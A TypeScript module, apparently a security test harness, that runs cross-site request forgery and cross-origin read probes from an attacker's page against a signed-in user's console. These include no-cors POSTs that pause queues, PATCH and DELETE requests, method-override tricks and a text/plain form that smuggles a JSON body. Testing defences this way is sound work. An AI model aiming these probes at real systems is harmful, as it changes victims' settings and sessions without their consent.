/**
 * Runs inside a page of an attacker, in the browser of a person who is signed in to the console at `target`. Each way tries to read
 * something or to change something; it answers what it could learn. It stands alone: the browser is handed its text.
 */
export async function attack(target: string): Promise<Record<string, string>> {
  const body = JSON.stringify({ now: true });
  const pause = `${target}/api/v1/queues/video/pause`;
  const settings = `${target}/api/v1/settings`;
  const learned: Record<string, string> = {};
  const patienceMs = 4000;

  const settle = async (name: string, way: () => Promise<string>): Promise<void> => {
    const gaveUp = new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), patienceMs));
    learned[name] = await Promise.race([way().catch(() => 'nothing'), gaveUp]);
  };
  /** What a request by script may see: an opaque answer has status 0 and no text. */
  const read = async (url: string, init: RequestInit): Promise<string> => {
    const answer = await fetch(url, { credentials: 'include', ...init });
    const text = await answer.text();
    return answer.type === 'opaque' || answer.type === 'opaqueredirect' || text === '' ? 'nothing' : text;
  };
  const element = (tag: string, attributes: Record<string, string>): Promise<string> =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => resolve(tag === 'iframe' ? framed(made as HTMLIFrameElement) : 'loaded');
      made.onerror = () => resolve('nothing');
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
    });
  const framed = (frame: HTMLIFrameElement): string => {
    try {
      return frame.contentDocument?.body.innerText ?? 'nothing';
    } catch {
      return 'nothing';
    }
  };
  const form = (name: string, attributes: Record<string, string>, fields: Record<string, string>): Promise<string> =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = name;
      document.body.append(frame);
      const made = document.createElement('form');
      for (const [key, value] of Object.entries({ method: 'POST', target: name, ...attributes }))
        made.setAttribute(key, value);
      for (const [key, value] of Object.entries(fields)) {
        const field = document.createElement('input');
        field.name = key;
        field.value = value;
        made.append(field);
      }
      document.body.append(made);
      frame.onload = () => resolve(framed(frame));
      made.submit();
    });
  const socket = (url: string): Promise<string> =>
    new Promise((resolve) => {
      const opened = new WebSocket(url);
      opened.onopen = () => resolve('open');
      opened.onerror = () => resolve('nothing');
    });
  const json = { 'content-type': 'application/json' };

  await settle('img', () => element('img', { src: `${target}/api/v1/jobs` }));
  await settle('script', () => element('script', { src: `${target}/api/v1/jobs` }));
  await settle('link', () => element('link', { rel: 'stylesheet', href: `${target}/api/v1/jobs` }));
  await settle('video', () => element('video', { src: `${target}/api/v1/jobs/1/media/result` }));
  await settle('iframe', () => element('iframe', { src: `${target}/api/v1/settings` }));
  await settle('iframe of the window', () => element('iframe', { src: `${target}/queue` }));
  await settle('sandboxed iframe', () =>
    element('iframe', {
      sandbox: 'allow-scripts',
      srcdoc: `<script>fetch('${pause}',{method:'POST',mode:'no-cors',credentials:'include',body:'${body}'})</script>`,
    }),
  );
  await settle('fetch GET', () => read(`${target}/api/v1/jobs`, {}));
  await settle('fetch GET without CORS', () => read(`${target}/api/v1/jobs`, { mode: 'no-cors' }));
  await settle('fetch of health', () => read(`${target}/health`, {}));
  await settle('fetch POST as text', () =>
    read(pause, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }),
  );
  await settle('fetch POST without a type', () =>
    read(pause, { method: 'POST', mode: 'no-cors', body: new Blob([body]) }),
  );
  await settle('fetch POST without a body', () => read(pause, { method: 'POST', mode: 'no-cors' }));
  await settle('fetch POST as JSON', () => read(pause, { method: 'POST', headers: json, body }));
  await settle('fetch POST as odd JSON', () =>
    read(pause, { method: 'POST', headers: { 'content-type': 'application/json;x' }, body }),
  );
  await settle('fetch PUT', () =>
    read(`${target}/api/v1/queues/video/workers`, { method: 'PUT', headers: json, body: '{"workers":1}' }),
  );
  await settle('fetch PATCH', () =>
    read(settings, { method: 'PATCH', headers: json, body: '{"changes":{"theme":"dark"}}' }),
  );
  await settle('fetch DELETE', () => read(`${target}/api/v1/session`, { method: 'DELETE' }));
  await settle('fetch with a method in a header', () =>
    read(`${target}/api/v1/session`, { method: 'POST', headers: { 'x-http-method-override': 'DELETE' } }),
  );
  await settle('fetch with a method in the query', () =>
    read(`${target}/api/v1/session?_method=DELETE`, { method: 'POST', mode: 'no-cors' }),
  );
  await settle('fetch with a made-up token', () =>
    read(`${target}/api/v1/jobs`, { headers: { authorization: 'Bearer x' } }),
  );
  await settle('sendBeacon', async () => (navigator.sendBeacon(pause, body) ? 'nothing' : 'refused by the browser'));
  await settle(
    'EventSource',
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`${target}/api/v1/live`, { withCredentials: true });
        source.onopen = () => resolve('open');
        source.onerror = () => (source.close(), resolve('nothing'));
      }),
  );
  await settle('WebSocket', () => socket(`${target.replace('http', 'ws')}/rpc`));
  await settle('form as text', () =>
    form('one', { action: pause, enctype: 'text/plain' }, { '{"now":true,"x":"': '"}' }),
  );
  await settle('form', () => form('two', { action: pause }, { now: 'true' }));
  await settle('form as multipart', () =>
    form('three', { action: pause, enctype: 'multipart/form-data' }, { now: 'true' }),
  );
  await settle('form that reads', () => form('four', { action: `${target}/api/v1/jobs`, method: 'GET' }, {}));
  return learned;
}
